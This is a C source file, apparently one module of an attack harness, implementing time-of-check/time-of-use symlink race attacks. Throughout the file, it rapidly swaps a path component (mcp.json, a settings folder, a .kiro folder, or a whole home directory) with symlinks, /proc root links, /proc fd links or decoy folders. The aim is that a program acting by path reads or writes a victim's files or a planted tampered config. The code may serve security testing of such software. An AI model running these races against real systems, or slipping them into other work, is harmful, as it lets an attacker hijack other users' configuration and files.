// One component of the path changes at full speed between what belongs there and something that
// leads elsewhere: whoever looks and then acts by name acts on the wrong thing.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attacker.h"

struct component {
  const char *name, *path;
  // What of the victim, a folder made like .kiro, it is to lead to.
  const char *of_victim;
};

static const struct component components[] = {
    {"file", TARGET, "/settings/mcp.json"},
    {"settings", SETTINGS, "/settings"},
    {"kiro", KIRO, ""},
};

static const struct component *component_named(const char *name) {
  for (size_t index = 0; index < 3; index++) {
    if (!strcmp(components[index].name, name)) return &components[index];
  }
  fail(name);
}

// The way up from the link's folder to the root, then down to the victim.
static const char *relative_text(const char *path, const char *victim) {
  static char text[4096];
  char home[4096];
  if (!getcwd(home, sizeof home)) fail("getcwd");
  text[0] = 0;
  for (const char *at = home; (at = strchr(at, '/')); at++) strcat(text, "../");
  for (const char *at = path; (at = strchr(at, '/')); at++) strcat(text, "../");
  return strcat(text, victim + 1);
}

// A link of the kernel's own that goes straight to the victim, whatever the path says.
static const char *magic_text(const char *victim) {
  int folder = open(victim, O_PATH);
  if (folder < 0) fail(victim);
  return path_of("/proc/%d/fd/%d", getpid(), folder);
}

static void make_folder_lure(const struct component *component) {
  if (!strcmp(component->name, "file")) {
    make_file(ASIDE, tampered, 0644);
  } else if (mkdir(ASIDE, 0700) == 0) {
    const char *inner = !strcmp(component->name, "kiro") ? ASIDE "/settings" : ASIDE;
    mkdir(inner, 0700);
    make_file(path_of("%s/mcp.json", inner), tampered, 0644);
  }
}

static int is_lure(const char *text) {
  char found[4096];
  ssize_t length = readlink(ASIDE, found, sizeof found);
  return length == (ssize_t)strlen(text) && !memcmp(found, text, (size_t)length);
}

// Arguments: component, way (relative, absolute, root, magic, folder), victim.
static void swap(long rounds, char **arguments) {
  const struct component *component = component_named(arguments[0]);
  const char *way = arguments[1];
  const char *victim = strdup(path_of("%s%s", arguments[2], component->of_victim));
  const char *text = !strcmp(way, "relative") ? relative_text(component->path, victim)
                     : !strcmp(way, "root")   ? path_of("/proc/self/root%s", victim)
                     : !strcmp(way, "magic")  ? magic_text(victim)
                     : !strcmp(way, "folder") ? NULL
                                              : victim;
  if (text) text = strdup(text);
  for (long round = 0; round < rounds; round++) {
    if (text ? !is_lure(text) : access(ASIDE, F_OK) != 0) {
      remove_tree(ASIDE);
      if (!text) make_folder_lure(component);
      else if (symlink(text, ASIDE) < 0 && errno != EEXIST) fail("symlink");
    }
    swap_names(ASIDE, component->path);
    if (round + 1 < rounds) swap_names(ASIDE, component->path);
  }
}

// The home itself changes places with a link to the victim's; only root can. Runs where homes lie.
// Arguments: home, victim's home.
static void swap_home(long rounds, char **arguments) {
  const char *home = arguments[0], *lure = path_of(".%s-lure", arguments[0]);
  unlink(lure);
  if (symlink(arguments[1], lure) < 0) fail("symlink");
  for (long round = 0; round < rounds; round++) {
    if (!swap_names(lure, home) || !swap_names(lure, home)) fail("swap of the home");
  }
  unlink(lure);
}

const struct attack swap_attacks[] = {{"swap", swap}, {"swap-home", swap_home}, {NULL, NULL}};
